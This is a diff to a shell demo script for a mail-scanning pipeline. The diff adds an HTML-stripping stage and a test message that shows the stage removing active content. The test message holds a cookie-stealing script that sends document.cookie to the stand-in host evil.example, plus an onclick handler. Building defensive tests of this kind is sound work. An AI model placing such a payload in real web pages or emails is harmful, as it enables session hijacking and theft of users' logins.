@@ -4,7 +4,8 @@
 # results shown.  The scratch directory is left for exploring.
 #
 #   SMTP in (ms-smtpd, subscribers checked at RCPT) -> verify -> subscriber
-#   -> clamav (MS_ACTION=clean) -> yara -> stamp -> relay into
+#   -> clamav (MS_ACTION=clean) -> yara -> active (scripts out) -> stamp
+#   -> relay into
 #   $scratch/mail/DOMAIN/USER (maildirs)
 set -eu
 top=${MS_TOP:-$(pwd)}
@@ -93,6 +94,11 @@ for k in range(29, -1, -1):
     inner = f'Content-Type: multipart/mixed; boundary="n{k}"\n\n--n{k}\n{inner}--n{k}--\n'
 msg(6, 'MIME nested 30 deep', inner.split('\n\n', 1)[1], ctype=nest)
 msg(7, 'to a non-subscriber', 'Hello?\n')
+msg(8, 'HTML with a script and a handler',
+    '<html><body><p>Your <b>invoice</b> is ready.</p>\n'
+    '<script>document.location="http://evil.example/?c="+document.cookie</script>\n'
+    '<p><a href="https://example.org/invoice" onclick="steal()">open it</a></p>\n'
+    '</body></html>\n', ctype='text/html; charset=utf-8')
 EOF
 
 echo
@@ -113,7 +119,7 @@ done
 i=0
 while [ $i -lt 200 ]; do
 	busy=$(find "$scratch/spool/in/new" "$scratch/spool/subs/new" "$scratch/spool/scan1/new" "$scratch/spool/scan2/new" \
-		"$scratch/spool/scan3/new" "$scratch/spool/notify/new" "$scratch/spool/held/new" \
+		"$scratch/spool/active/new" "$scratch/spool/scan3/new" "$scratch/spool/notify/new" "$scratch/spool/held/new" \
 		"$scratch/spool/out/new" "$scratch/spool/bounce/new" \
 		-type f 2>/dev/null | wc -l)
 	[ "$busy" -eq 0 ] && break
@@ -133,9 +139,16 @@ for f in "$msgs"/*.eml; do
 	dsn=$(grep -l "^$tag" "$scratch"/mail/example.org/demo/new/* 2>/dev/null | head -1) || :
 	if [ -n "$got" ]; then
 		st=$(sed -n '/^X-Mailscan-Status: /{s/^X-Mailscan-Status: \([a-z]*\);.*/\1/p;q}' "$got")
-		why=$(grep -h '^X-Mailscan-Verdict: ' "$scratch"/spool/*/new/* 2>/dev/null | head -0)
 		case $st in
-		cleaned) what=cleaned; why="infected part replaced; status $st, signed" ;;
+		cleaned)
+			what=cleaned
+			# what the scanners said, from the admin's notice about it
+			nt=$(grep -l "^  Message-ID: <demo$n@example.org>" \
+				"$scratch"/mail/example.org/postmaster/new/* 2>/dev/null | head -1) || :
+			why=
+			[ -n "$nt" ] && why=$(sed -n '/^What the scanners said:/,/^$/s/^  //p' "$nt" |
+				grep -v ' clean$' | head -1)
+			why="${why:-a part replaced}; status $st, signed" ;;
 		*) what=delivered; why="status ${st:-none}, signed by this host" ;;
 		esac
 	elif [ -n "$q" ]; then
@@ -158,6 +171,12 @@ if [ -n "$first" ]; then
 	echo
 	echo "the status header of a delivered message (${first#$scratch/}):"
 	sed -n '/^X-Mailscan-Status:/,/^[^ \t]/p' "$first" | sed '$d' | sed 's/^/  /'
+fi
+html=$(grep -l '^Subject: demo 8:' "$scratch"/mail/example.org/alice/new/* 2>/dev/null | head -1) || :
+if [ -n "$html" ]; then
+	echo
+	echo "the HTML of message 8 as delivered (ms-scan-active took the script and the handler out):"
+	sed '1,/^$/d' "$html" | sed 's/^/  /'
 fi
 echo
 echo "ms-quarantine list:"
